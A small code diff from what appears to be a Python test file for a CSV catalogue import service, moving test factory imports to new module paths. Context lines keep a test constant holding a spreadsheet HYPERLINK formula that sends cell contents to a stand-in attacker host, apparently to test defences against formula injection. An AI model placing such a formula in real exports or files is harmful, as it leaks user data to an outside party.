@@ -11,8 +11,8 @@ from sqlalchemy import select
 from app.extensions import db
 from app.models import MicroCredential
 from app.services.catalogue.import_export import import_csv
-from tests.factories import OrganisationFactory, member
-from tests.factories_hub import micro_credential
+from tests.factories.accounts import OrganisationFactory, member
+from tests.factories.catalogue import micro_credential
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 
